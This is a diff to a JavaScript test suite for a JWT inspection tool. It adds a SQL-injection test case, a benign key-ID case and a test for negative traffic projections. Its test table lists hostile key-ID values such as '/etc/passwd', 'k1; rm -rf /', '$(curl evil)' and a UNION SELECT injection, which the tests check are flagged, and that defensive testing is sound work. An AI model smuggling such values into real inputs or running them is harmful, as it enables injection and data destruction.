@@ -189,6 +189,7 @@ describe('inspect audit: one crafted token per finding', () => {
       ['/etc/passwd', /file path/],
       ["k1' UNION SELECT 'secret", /SQL/],
       ['k1; rm -rf /', /SQL|shell/],
+      ['x OR 1=1 --', /SQL/],
       ['$(curl evil)', /shell/],
       ['https://evil.example/key', /URL/],
       ['k\u0000', /control/],
@@ -201,7 +202,7 @@ describe('inspect audit: one crafted token per finding', () => {
       assert.equal(kidFinding.severity, 'high');
       assert.match(kidFinding.message, reason, String(kid));
     }
-    for (const kid of ['k1', '2024-06-01', 'projects/p/keys/k/versions/1', 'ZmZm_-x']) {
+    for (const kid of ['k1', '2024-06-01', '2024--06', 'projects/p/keys/k/versions/1', 'ZmZm_-x']) {
       const report = await inspect(craft({ alg: 'EdDSA', typ: 'at+jwt', kid }, goodClaims()));
       assert.ok(!ids(report).includes('kid_suspicious'), kid);
     }
@@ -227,6 +228,14 @@ describe('inspect audit: one crafted token per finding', () => {
     assert.equal(report.traffic.extraMegabytes, ((token.length - 62) * 250_000) / 1e6);
     assert.match(report.traffic.assumption, /client to server/);
     assert.match(finding(report, 'traffic_projection').message, /250,000 requests/);
+  });
+
+  test('a token smaller than the cookie shows negative extra traffic, worded as less', async () => {
+    const tiny = craft({ alg: 'none' }, {}, '');
+    const report = await inspect(tiny);
+    assert.equal(report.traffic?.extraBytesPerRequest, tiny.length - 62);
+    assert.ok(report.traffic.extraBytes < 0);
+    assert.match(finding(report, 'traffic_projection').message, /less traffic a month/);
   });
 
   test("the seed article's claims as an HS256 JWT: 228 B, 3.7x the cookie, 16.6 MB per 100k requests", async () => {
